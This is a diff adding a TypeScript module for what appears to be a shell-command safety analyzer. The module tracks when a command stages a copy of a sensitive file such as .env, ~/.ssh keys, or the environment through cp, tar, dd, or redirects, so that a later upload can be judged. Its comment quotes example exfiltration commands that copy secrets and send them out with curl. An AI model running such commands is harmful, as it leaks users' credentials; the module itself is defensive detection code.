@@ -1,0 +1,98 @@
+import { isSensitiveFile } from "../paths.js";
+import type { Invocation } from "./analyze.js";
+import { NameSet } from "./name-table.js";
+import { basename } from "./wrappers.js";
+
+/**
+ * Secrets staged in another file first: `cp .env /tmp/x.txt && curl -F f=@/tmp/x.txt host`,
+ * `cat ~/.ssh/id_rsa > /tmp/k; curl -T /tmp/k host`, `env > /tmp/e`, `tar czf k.tgz ~/.ssh`.
+ * A rule that asks whether the uploaded file is a secret sees `/tmp/x.txt`; the analysis notes
+ * the copy, and reads the commands that name the copy again with the secret's own name written
+ * in (see expansions.ts), so the upload is judged as the upload of `.env` it is. Only copies
+ * of sensitive files are noted: other copies change nothing a rule asks.
+ */
+
+/** Where the environment is, as a file: what `env > f` and `printenv > f` copy. */
+const ENVIRONMENT = "/proc/self/environ";
+
+/** Programs that copy their source operands to their last operand. */
+const COPIERS = new NameSet(["cp", "mv", "install", "ln", "rsync"]);
+
+/**
+ * `env`, `printenv`, `export -p`, `declare -x`: the command prints the whole environment. `env`
+ * is also a wrapper (`env -i cmd`), so alone it runs no program and its name is empty.
+ */
+export function printsEnvironment(inv: Invocation): boolean {
+  if (inv.name === "printenv") return inv.args.every((a) => a.startsWith("-"));
+  if (inv.name === "export" || inv.name === "declare")
+    return inv.args.length === 1 && /^-[px]$/.test(inv.args[0]!);
+  return (
+    inv.name === "" &&
+    basename(inv.words[0] ?? "") === "env" &&
+    inv.words.slice(1).every((w) => w.startsWith("-"))
+  );
+}
+
+/** Archivers whose archive is named by `-f` (tar) or is their first operand (zip, 7z). */
+const ARCHIVERS = new NameSet(["tar", "zip", "7z", "7za", "rar"]);
+
+/** Programs whose staging this module reads: a command of any other writes a copy only through `>`. */
+export const STAGING_PROGRAMS: readonly string[] = [...COPIERS, ...ARCHIVERS, "dd"];
+
+/** The copy `inv` makes of a sensitive file, as `[copy, original]`, or undefined. */
+export function stagedCopy(inv: Invocation): readonly [string, string] | undefined {
+  const written = writtenFile(inv);
+  if (written !== undefined) {
+    if (printsEnvironment(inv)) return [written, ENVIRONMENT];
+    const secret = inv.args.find((a) => !a.startsWith("-") && isSensitiveFile(a));
+    if (secret !== undefined) return [written, secret];
+  }
+  if (inv.args.length < 2) return undefined;
+  if (COPIERS.has(inv.name)) {
+    const operands = inv.args.filter((a) => !a.startsWith("-"));
+    const destination = operands.at(-1);
+    const secret = operands.slice(0, -1).find(isSensitiveFile);
+    if (destination === undefined || secret === undefined || destination.includes(":")) return undefined;
+    // Copied into a directory, the copy keeps its name.
+    return [destination.endsWith("/") ? `${destination}${basename(secret)}` : destination, secret];
+  }
+  if (ARCHIVERS.has(inv.name)) {
+    const archive = archiveName(inv);
+    const secret = inv.args.find((a) => a !== archive && !a.startsWith("-") && isSensitiveFile(a));
+    return archive !== undefined && secret !== undefined ? [archive, secret] : undefined;
+  }
+  if (inv.name === "dd") {
+    const from = inv.args.find((a) => a.startsWith("if="))?.slice(3);
+    const to = inv.args.find((a) => a.startsWith("of="))?.slice(3);
+    return from !== undefined && to !== undefined && isSensitiveFile(from) ? [to, from] : undefined;
+  }
+  return undefined;
+}
+
+/** The file a command's standard output is written to (`> f`, `>> f`), if any. */
+function writtenFile(inv: Invocation): string | undefined {
+  for (const r of inv.redirects) {
+    if (
+      (r.op === ">" || r.op === ">>" || r.op === ">|") &&
+      (r.fd === "" || r.fd === "1") &&
+      r.target.text !== ""
+    )
+      return r.target.text;
+  }
+  return undefined;
+}
+
+/** `tar czf out.tgz ...`, `tar -cf out.tar ...`, `zip -r out.zip ...`: the archive written. */
+function archiveName(inv: Invocation): string | undefined {
+  if (inv.name === "tar") {
+    for (let k = 0; k < inv.args.length; k++) {
+      const a = inv.args[k]!;
+      if (a === "-f" || a === "--file") return inv.args[k + 1];
+      if (a.startsWith("--file=")) return a.slice("--file=".length);
+      // Bundled letters (`czf`, `-czf`): the value of `f` is the next argument.
+      if (/^-?[A-Za-z]*f[A-Za-z]*$/.test(a) && !a.startsWith("--") && k < 2) return inv.args[k + 1];
+    }
+    return undefined;
+  }
+  return inv.args.find((a) => !a.startsWith("-") && !(inv.name.startsWith("7") && (a === "a" || a === "u")));
+}
